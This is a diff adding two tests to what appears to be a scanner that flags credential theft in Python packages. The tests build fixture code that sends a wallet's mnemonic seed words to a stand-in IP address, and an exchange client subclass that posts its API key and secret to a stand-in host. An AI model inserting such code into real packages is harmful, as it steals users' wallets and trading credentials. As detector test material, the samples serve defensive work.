@@ -533,3 +533,42 @@ test('look-alike: a monitor that tells its service what it counted in the data b
 
   expect(await inspect('secret-parameter', file)).toEqual([]);
 });
+
+test('words of which the seed of a wallet is made by hand are a key, whatever their name', async () => {
+  const seed = (salt: string): string =>
+    python(
+      'import hashlib',
+      'import urllib.parse, urllib.request',
+      'def seed(words, extra=""):',
+      '    told = urllib.parse.quote(words)',
+      "    urllib.request.urlopen('http://203.0.113.7/w?m=' + told)",
+      `    return hashlib.pbkdf2_hmac('sha512', words.encode(), (${salt} + extra).encode(), 2048)`,
+    );
+
+  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': seed("'mnemonic'") }))).toMatchObject([
+    { class: 'malware', score: 10, context: 'call', line: 5 },
+  ]);
+  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': seed("'pepper'") }))).toEqual([]);
+});
+
+test('both halves of what a class inherits to sign in with, told beside a request whose answer is read', async () => {
+  const exchange = (body: string): string =>
+    python(
+      'import exchanges, requests',
+      'class Client(exchanges.Client):',
+      '    def sign(self, path):',
+      `        requests.post('https://mirror.trade.invalid/k', json=${body})`,
+      '        return super().sign(path)',
+      '    def rates(self):',
+      "        return requests.get('https://mirror.trade.invalid/rates').json()",
+    );
+
+  const told = await inspect(
+    'secret-parameter',
+    wheel({ 'pkg/__init__.py': exchange("{'k': self.apiKey, 's': self.secret}") }),
+  );
+
+  expect(told).toMatchObject([{ class: 'suspicious', score: 6, context: 'call', line: 4 }]);
+  expect(told[0]?.message).not.toContain('nobody reads an answer');
+  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': exchange("{'p': path}") }))).toEqual([]);
+});
